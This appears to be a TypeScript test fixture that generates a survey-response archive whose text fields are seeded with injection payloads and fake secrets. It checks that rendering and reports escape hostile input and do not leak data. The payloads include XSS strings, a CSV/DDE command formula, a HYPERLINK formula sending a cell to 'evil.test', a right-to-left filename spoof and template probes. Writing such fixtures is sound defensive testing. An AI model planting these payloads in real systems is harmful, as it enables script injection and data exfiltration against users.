// An archive that tries to get out of wherever its texts are shown: names and comments that are HTML, formulas, turned
// around, tokens, addresses and ids. Enough answers in each group for it to be shown by itself.
const RUN = "window.pwned=1";

const ATTACKS = [
  `<img src=x onerror=${RUN}>`,
  `</style><script>${RUN}</script>`,
  `"><svg/onload=${RUN}>`,
  `' onmouseover='${RUN}`,
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("//evil.test?"&A1)',
  "\u202Etxt.exe\u2066",
  "]]><!-- ${7*7} {{7*7}} &lt;script&gt;",
  "<style>@import '//evil.test/x.css'</style>",
];

/** What must not leave with a report, wherever it stands. */
export const SECRETS = [
  "ann@example.org",
  "+358 40 123 4567",
  "5f0c8a1b2c3d4e5f60718293",
  "earshot_Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFy12",
  "https://shop.example/orders?key=secret",
] as const;

const TEXTS = [...ATTACKS, ...SECRETS];
const DAY = 86_400;
const FIRST = Date.UTC(2026, 0, 5, 9) / 1000;

const survey = {
  kind: "survey",
  _id: "s1",
  name: TEXTS[0],
  createdBy: "u1",
  teamId: "team-1",
  teamName: TEXTS[1],
  languages: ["en"],
  archived: false,
  questions: [
    { _id: "q-nps", questionType: "NPS", title: { en: TEXTS[2] }, languages: ["en"], choices: [] },
    { _id: "q-why", questionType: "Text", title: { en: TEXTS[3] }, languages: ["en"], choices: [] },
    { _id: "q-how", questionType: "Choice", title: { en: TEXTS[4] }, languages: ["en"], choices: [] },
  ],
};

function chainAt(number: number): unknown {
  const text = TEXTS[number % TEXTS.length] ?? "";
  const createdAt = FIRST + number * DAY;
  const isLow = number % TEXTS.length < 5;
  const said = { surveyId: "s1", language: "en" };
  const score = isLow ? number % 4 : 9 + (number % 2);
  return {
    kind: "chain",
    _id: `chain-${number}`,
    surveyId: "s1",
    surveyVersion: 3,
    isClosed: true,
    touchpointId: `touchpoint-${number % TEXTS.length}`,
    touchpointName: text,
    createdAt,
    createdAtDate: new Date(createdAt * 1000).toISOString(),
    teamId: "team-1",
    teamName: TEXTS[1],
    metadata: { [text]: text, till: text, mailTo: SECRETS[0] },
    language: "en",
    browser: text,
    responses: [
      { ...said, questionId: "q-nps", questionType: "NPS", answer: score, valueNum: score },
      {
        ...said,
        questionId: "q-why",
        questionType: "Text",
        answer: `so ${text} it was`,
        valueString: `so ${text} it was`,
      },
      { ...said, questionId: "q-how", questionType: "Choice", answer: text, valueString: text },
    ],
  };
}

/** Lines of an archive. */
export const hostileArchive = (): string =>
  [survey, ...Array.from({ length: 20 * TEXTS.length }, (_, number) => chainAt(number))]
    .map((line) => JSON.stringify(line))
    .join("\n");
